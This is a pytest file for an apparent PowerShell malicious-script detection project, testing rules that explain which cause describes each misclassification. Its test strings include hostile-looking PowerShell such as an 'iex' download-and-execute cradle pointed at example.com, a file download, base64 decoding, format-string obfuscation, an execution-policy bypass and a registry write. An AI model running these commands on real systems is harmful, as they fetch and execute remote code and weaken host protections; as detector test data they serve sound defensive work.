"""Mistakes are those of most seeds, each with the first rule that describes it."""

import polars as pl
import pytest

from psembed.evaluation import mistakes

FILL = " ; Get-ChildItem -Path C:\\logs" * 10


@pytest.mark.parametrize(
    ("text", "cause"),
    [
        ("iex $x", "short"),
        (
            "iex (New-Object Net.WebClient).DownloadString('http://example.com/a')" + FILL,
            "downloads and runs",
        ),
        ("Invoke-WebRequest http://example.com/a -OutFile a.msi" + FILL, "downloads"),
        ("Add-Type -AssemblyName System.Web" + FILL, "loads native or .NET code"),
        ("[Convert]::FromBase64String($a)" + FILL, "decodes or decrypts"),
        ("&('{0}{1}{2}' -f 'a','b','c')" + FILL, "obfuscated spelling"),
        ("$d = '" + "QUJD" * 200 + "'" + FILL, "mostly data"),
        ("powershell -ExecutionPolicy Bypass -File a.ps1" + FILL, "hides a window, loosens the policy"),
        (
            "Set-ItemProperty HKLM:\\Software\\A -Name b -Value 1" + FILL,
            "changes settings, services or tasks",
        ),
        (FILL, mistakes.OTHER),
        (FILL * 20, mistakes.OTHER + mistakes.BEYOND),
    ],
)
def test_each_rule_describes_what_it_names(text, cause):
    assert mistakes.causes(pl.Series([text]), char_length=2048).to_list() == [cause]


def test_every_rule_can_be_the_first_to_apply():
    marks = [mark for mark in test_each_rule_describes_what_it_names.pytestmark if mark.name == "parametrize"]
    assert {cause for _, cause in marks[0].args[1]} >= {*mistakes.CAUSES, mistakes.OTHER}


def test_mistakes_of_most_seeds_are_listed_and_nothing_else():
    table = pl.DataFrame({
        "sha256": list("abcdef"), "label": [1, 1, 1, 0, 0, 0], "source": "s", "stratum": "t",
        "clean": ["x"] * 6, "net": [1.0, 0.5, 0.0, 0.0, 0.4, 0.6],
    })  # fmt: skip
    found = mistakes.mistakes(table, model="net", char_length=64)
    assert found.select("mistake", "sha256").rows() == [("false alarm", "f"), ("miss", "b"), ("miss", "c")]
    assert set(found["cause"]) == {"short"} and set(found["characters"]) == {1}
